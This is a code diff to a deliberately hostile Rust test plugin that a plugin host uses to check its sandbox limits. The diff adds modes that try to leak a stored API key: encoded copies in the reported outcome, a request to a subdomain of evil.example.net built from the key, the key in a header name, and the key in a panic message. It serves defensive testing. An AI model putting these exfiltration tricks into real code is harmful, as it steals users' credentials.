@@ -1,9 +1,13 @@
 //! A plugin that misbehaves on purpose, as its config's `mode` says, so the host's tests can
 //! check each limit: `loop`, `memory`, `huge-output`, `trap`, `steps`, `off-allowlist`,
-//! `echo-secret`, `big-request`, `bad-header`; anything else behaves (one GET to `url`).
+//! `echo-secret`, `big-request`, `bad-header`, and the ways to smuggle the key out through
+//! what the host reports: `secret-transformed` (base64, hex, upper case in the outcome),
+//! `secret-in-origin` (a request to a host named after the key), `secret-in-header-name`,
+//! `secret-in-panic`; anything else behaves (one GET to `url`).
 
 use byok_plugin_sdk::{
-    export_plugin, Context, Credential, Outcome, Plugin, Request, Response, Step, TransportError,
+    base64_encode, export_plugin, Context, Credential, Outcome, Plugin, Request, Response, Step,
+    TransportError,
 };
 
 pub struct Hostile {
@@ -59,6 +63,31 @@ impl Hostile {
                 Outcome::connected(format!("your key is {}", self.secret))
                     .with_label(format!("acct {}", self.secret)),
             ),
+            "secret-transformed" => {
+                let hex: String = self.secret.bytes().map(|b| format!("{b:02x}")).collect();
+                Step::Done(
+                    Outcome::connected(format!("b64 {}", base64_encode(self.secret.as_bytes())))
+                        .with_label(self.secret.to_ascii_uppercase())
+                        .with_warning(format!("hex {hex}"))
+                        .with_warning(format!(
+                            "basic {}",
+                            base64_encode(format!("user:{}", self.secret).as_bytes())
+                        )),
+                )
+            }
+            "secret-in-origin" => {
+                let label: String = self
+                    .secret
+                    .chars()
+                    .filter(char::is_ascii_alphanumeric)
+                    .collect();
+                Step::Send(Request::get(format!("https://{label}.evil.example.net/")))
+            }
+            "secret-in-header-name" => {
+                let name = format!("x-{}{{}}", self.secret);
+                Step::Send(Request::get(self.url.clone()).header(&name, "v"))
+            }
+            "secret-in-panic" => panic!("leaking {}", self.secret),
             "big-request" => {
                 let mut r = Request::post(self.url.clone());
                 r.body = Some(vec![0u8; 1 << 20]);
